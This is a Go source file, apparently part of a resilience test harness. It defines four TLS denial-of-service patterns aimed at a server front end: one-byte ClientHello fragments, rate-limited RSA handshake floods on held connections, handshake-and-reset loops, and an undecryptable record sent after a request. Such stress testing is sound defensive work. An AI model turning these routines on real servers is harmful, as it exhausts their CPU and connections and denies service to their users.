package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"time"
)

// shakers attack with TLS handshakes and records.
var shakers = []attack{
	{
		name: "tls-crumbs", attackers: 1000, front: withECDSA, heap: 40,
		about: "all but the last byte of a ClientHello, in records of one byte (RFC 8446 section 5.1)",
		run: func(ctx context.Context, a *attacker) error {
			c, err := dial(ctx, a.addr[withECDSA])
			if err != nil {
				return err
			}
			defer c.Close()
			hello, err := clientHello()
			if err != nil {
				return err
			}
			var b []byte
			for _, one := range hello[5 : len(hello)-1] {
				b = append(b, hello[0], hello[1], hello[2], 0, 1, one)
			}
			if _, err := c.Write(b); err != nil {
				return err
			}
			a.sent.Add(1)
			drain(c)
			return nil
		},
	},
	{
		name: "tls-rsa-stay", attackers: 8, front: withRSA,
		about: "handshakes with an RSA certificate that go no further, on connections that stay: 2,000 a second at most",
		run: func(ctx context.Context, a *attacker) error {
			every := time.NewTicker(4 * time.Millisecond) // each of 8
			defer every.Stop()
			hello, err := clientHello()
			if err != nil {
				return err
			}
			var open []net.Conn
			defer func() {
				for _, c := range open {
					c.Close()
				}
			}()
			for {
				select {
				case <-ctx.Done():
					return nil
				case <-every.C:
				}
				c, err := dial(ctx, a.addr[withRSA])
				if err != nil {
					return err
				}
				if open = append(open, c); len(open) > 1000 {
					open[0].Close()
					open = open[1:]
				}
				c.Write(hello)
				a.sent.Add(1)
			}
		},
	},
	{
		name: "tls-rsa-reset", attackers: 8, front: withRSA,
		about: "a ClientHello to an RSA certificate and a reset, again and again",
		run: func(ctx context.Context, a *attacker) error {
			hello, err := clientHello()
			if err != nil {
				return err
			}
			for ctx.Err() == nil {
				c, err := dial(ctx, a.addr[withRSA])
				if err != nil {
					return err
				}
				c.Write(hello)
				c.(*net.TCPConn).SetLinger(0)
				c.Close()
				a.sent.Add(1)
			}
			return nil
		},
	},
	{
		name: "tls-garbage", attackers: 2, front: withECDSA,
		about: "a request and then a record that cannot be decrypted: how many of the answers arrive",
		run: func(ctx context.Context, a *attacker) error {
			raw, err := dial(ctx, a.addr[withECDSA])
			if err != nil {
				return err
			}
			defer raw.Close()
			var late buffered
			late.Conn = raw
			c := tls.Client(&late, &tls.Config{InsecureSkipVerify: true})
			if err := c.HandshakeContext(ctx); err != nil {
				return err
			}
			late.hold = true
			fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: target\r\n\r\n")
			late.b.Write([]byte{23, 3, 3, 0, 32})
			late.b.Write(make([]byte, 32))
			if _, err := raw.Write(late.b.Bytes()); err != nil {
				return err
			}
			a.sent.Add(1)
			answer := make([]byte, 4<<10)
			raw.SetReadDeadline(time.Now().Add(2 * time.Second))
			if n, _ := c.Read(answer); bytes.HasPrefix(answer[:n], []byte("HTTP/1.1 200")) {
				a.good.Add(1)
			}
			return nil
		},
	},
}

// buffered keeps what is written while hold is set.
type buffered struct {
	net.Conn
	hold bool
	b    bytes.Buffer
}

func (c *buffered) Write(p []byte) (int, error) {
	if c.hold {
		return c.b.Write(p)
	}
	return c.Conn.Write(p)
}

// clientHello returns the record of one.
func clientHello() ([]byte, error) {
	ours, theirs := net.Pipe()
	defer theirs.Close()
	go func() {
		defer ours.Close()
		tls.Client(ours, &tls.Config{ServerName: "target"}).Handshake()
	}()
	b := make([]byte, 8<<10)
	n, err := theirs.Read(b)
	return b[:n], err
}
